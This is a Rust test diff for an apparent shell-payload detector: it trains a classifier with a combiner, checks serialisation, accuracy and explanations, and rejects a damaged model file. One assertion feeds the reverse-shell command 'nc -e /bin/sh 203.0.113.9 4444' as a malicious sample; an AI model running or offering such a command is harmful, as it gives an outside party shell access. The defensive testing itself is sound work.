@@ -123,3 +123,60 @@ fn one_class_training_is_refused() {
         .is_err()
     );
 }
+
+#[test]
+fn a_model_with_its_combiner_survives_its_file_and_explains_the_weighing() {
+    let plain = Analyzer::new(None, VerdictConfig::default());
+    let set = features::FeatureSet {
+        bits: 16,
+        ..features::FeatureSet::default()
+    };
+    let texts: Vec<(String, Option<Shell>)> = corpus(3, 600)
+        .into_iter()
+        .map(|(t, _)| (t, Some(Shell::Sh)))
+        .collect();
+    let labels: Vec<bool> = corpus(3, 600).into_iter().map(|(_, y)| y).collect();
+    let examined: Vec<_> = texts.iter().map(|(t, s)| plain.examine(t, *s)).collect();
+    let rows: Vec<_> = examined
+        .iter()
+        .zip(&labels)
+        .map(|(a, &y)| (features::extract(a, &set), y))
+        .collect();
+    let ids: Vec<_> = examined
+        .iter()
+        .zip(&labels)
+        .map(|(a, &y)| (warden_payload::tempering::pattern_ids(a), y))
+        .collect();
+    let params = TrainParams {
+        features: set,
+        epochs: 6,
+        ..TrainParams::default()
+    };
+    let mut model = train(&rows, &params, "test").unwrap();
+    model.combiner = Some(warden_payload::combiner::fit(&texts, &rows, &ids, &params, 5).unwrap());
+    let model = Arc::new(PayloadModel::from_bytes(&model.to_bytes()).unwrap());
+    assert!(model.combiner.is_some());
+    let a = Analyzer::new(Some(model), VerdictConfig::default());
+    let scored: Vec<(f64, bool)> = corpus(99, 300)
+        .iter()
+        .map(|(t, y)| (f64::from(a.analyze(t, Some(Shell::Sh)).score), *y))
+        .collect();
+    assert!(roc_auc(&scored) > 0.97, "{}", roc_auc(&scored));
+    let v = a.analyze("nc -e /bin/sh 203.0.113.9 4444", Some(Shell::Sh));
+    let m = v.model.as_ref().unwrap();
+    assert!(m.probability > 0.5, "{m:?}");
+    // The n-gram model's own score is kept beside the combined one, and the explanation
+    // says what the combiner weighed it with.
+    assert!(m.text_probability.is_some(), "{m:?}");
+    assert!(
+        v.explanation.contains("(the text alone"),
+        "{}",
+        v.explanation
+    );
+    // A file with a damaged combiner is refused.
+    let mut broken = (*a.model().unwrap().clone()).clone();
+    if let Some(c) = broken.combiner.as_mut() {
+        c.ids.push("zzz-unknown".into());
+    }
+    assert!(PayloadModel::from_bytes(&broken.to_bytes()).is_err());
+}
